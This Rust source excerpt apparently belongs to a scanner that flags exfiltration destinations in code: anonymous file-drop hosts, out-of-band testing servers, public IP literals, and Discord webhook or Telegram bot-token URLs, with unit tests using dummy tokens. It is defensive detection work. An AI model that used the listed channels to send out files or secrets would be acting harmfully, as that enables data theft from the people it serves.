/// The host of a URL or `host[:port]`, lower-cased; `None` when there is none.
fn host_of(url: &str) -> Option<String> {
    let s = url.trim().trim_matches(|c| c == '"' || c == '\'');
    let rest = match s.find("://") {
        Some(i) => &s[i + 3..],
        None => s,
    };
    let end = rest
        .find(|c: char| matches!(c, '/' | '?' | '#' | '\\') || c.is_whitespace())
        .unwrap_or(rest.len());
    let mut authority = &rest[..end];
    if let Some(at) = authority.rfind('@') {
        authority = &authority[at + 1..];
    }
    if authority.starts_with('[') {
        return None;
    }
    let host = authority
        .split(':')
        .next()?
        .trim_end_matches('.')
        .to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

/// The path (with query) of a URL, after its authority.
fn path_of(url: &str) -> &str {
    let s = url.trim();
    let rest = match s.find("://") {
        Some(i) => &s[i + 3..],
        None => s,
    };
    match rest.find('/') {
        Some(i) => &rest[i..],
        None => "",
    }
}

/// Whether `host` is `domain` or one of its subdomains.
fn under(host: &str, domain: &str) -> bool {
    host == domain
        || (host.len() > domain.len()
            && host.ends_with(domain)
            && host.as_bytes()[host.len() - domain.len() - 1] == b'.')
}

fn catcher(host: &str) -> Option<&'static str> {
    if let Some(what) = CATCHERS
        .iter()
        .find(|(suffix, _)| under(host, suffix))
        .map(|(_, what)| *what)
    {
        return Some(what);
    }
    // `oast.<tld>`: the name out-of-band testing servers go by.
    let mut labels = host.rsplit('.');
    let (_tld, second) = (labels.next(), labels.next());
    (second == Some("oast")).then_some("an out-of-band interaction server")
}

/// Hosts that serve files anyone uploaded: a program fetched from one, or
/// data posted to one, has no library behind it.
const FILE_DROPS: &[(&str, &str)] = &[
    ("cdn.discordapp.com", "Discord's attachment CDN"),
    ("media.discordapp.net", "Discord's attachment CDN"),
    ("gofile.io", "Gofile (file drop)"),
    ("file.io", "file.io (file drop)"),
    ("anonfiles.com", "AnonFiles (file drop)"),
    ("catbox.moe", "catbox.moe (file drop)"),
    ("filebin.net", "filebin (file drop)"),
    ("tmpfiles.org", "tmpfiles.org (file drop)"),
    ("temp.sh", "temp.sh (file drop)"),
    ("bashupload.com", "bashupload (file drop)"),
    ("0x0.st", "0x0.st (file drop)"),
    ("oshi.at", "oshi.at (file drop)"),
    ("pixeldrain.com", "pixeldrain (file drop)"),
];

fn file_drop(host: &str) -> Option<&'static str> {
    FILE_DROPS
        .iter()
        .find(|(domain, _)| under(host, domain))
        .map(|(_, what)| *what)
}

/// A public IPv4 address written as one: not private, loopback, link-local,
/// shared, multicast or reserved, and not a well-known public resolver.
/// Documentation ranges count as public: a fixture's address stands for a
/// real one.
fn is_public_ipv4(host: &str) -> bool {
    let Ok(ip) = host.parse::<Ipv4Addr>() else {
        return false;
    };
    let o = ip.octets();
    let special = ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_multicast()
        || o[0] == 0
        || o[0] >= 240
        || (o[0] == 100 && (o[1] & 0xc0) == 64)
        || (o[0] == 198 && (o[1] & 0xfe) == 18);
    !special && !RESOLVERS.contains(&host)
}

/// A Telegram bot token: `<8-11 digits>:<35 token characters>`.
fn is_telegram_token(s: &str) -> bool {
    let Some((id, secret)) = s.split_once(':') else {
        return false;
    };
    (8..=11).contains(&id.len())
        && id.bytes().all(|b| b.is_ascii_digit())
        && secret.len() == 35
        && secret.bytes().all(is_token_byte)
}

fn is_token_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

/// A Discord webhook URL with its id and token, or a Telegram Bot API URL
/// with a bot token (or with a blank for one, when the file holds a literal
/// token).
fn bot_endpoint(url: &str, has_token_literal: &dyn Fn() -> bool) -> Option<&'static str> {
    let host = host_of(url)?;
    let path = path_of(url);
    if under(&host, "discord.com") || under(&host, "discordapp.com") {
        let mut p = path.strip_prefix("/api/")?;
        if let Some(rest) = p.strip_prefix('v') {
            let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
            p = rest[digits..].strip_prefix('/')?;
        }
        let p = p.strip_prefix("webhooks/")?;
        let (id, rest) = p.split_once('/')?;
        let token_len = rest.bytes().take_while(|b| is_token_byte(*b)).count();
        return ((16..=21).contains(&id.len())
            && id.bytes().all(|b| b.is_ascii_digit())
            && token_len >= 60)
            .then_some("a Discord webhook");
    }
    if host == "api.telegram.org" {
        let p = path.strip_prefix("/bot")?;
        let token: String = p
            .chars()
            .take_while(|c| c.is_ascii() && (is_token_byte(*c as u8) || *c == ':'))
            .collect();
        if is_telegram_token(&token) || (p.starts_with("{}") && has_token_literal()) {
            return Some("the Telegram Bot API");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_and_addresses() {
        assert_eq!(
            host_of("https://u:p@X.Oast.Fun:8443/a?b").as_deref(),
            Some("x.oast.fun")
        );
        assert_eq!(host_of("198.51.100.7").as_deref(), Some("198.51.100.7"));
        assert_eq!(
            catcher("abc.m.pipedream.net"),
            Some("Pipedream (request catcher)")
        );
        assert_eq!(catcher("notwebhook.site"), None);
        assert_eq!(catcher("webhook.site.example.com"), None);
        assert!(is_public_ipv4("203.0.113.9"));
        assert!(!is_public_ipv4("10.1.2.3"));
        assert!(!is_public_ipv4("169.254.169.254"));
        assert!(!is_public_ipv4("8.8.8.8"));
        assert!(!is_public_ipv4("1.2.3"));
    }

    #[test]
    fn bot_credentials() {
        let no = || false;
        let token = format!("1234567890:AA{}", "x".repeat(33));
        assert!(is_telegram_token(&token));
        assert!(!is_telegram_token("123456:ABC-DEF"));
        assert!(
            bot_endpoint(
                &format!("https://api.telegram.org/bot{token}/sendMessage"),
                &no
            )
            .is_some()
        );
        assert!(bot_endpoint("https://api.telegram.org/bot{}/sendMessage", &no).is_none());
        let hook = format!(
            "https://discord.com/api/webhooks/123456789012345678/{}",
            "a".repeat(68)
        );
        assert!(bot_endpoint(&hook, &no).is_some());
        assert!(bot_endpoint("https://discord.com/api/webhooks/1/x", &no).is_none());
        assert!(bot_endpoint("https://discord.com/api/v10/channels/1", &no).is_none());
    }
}
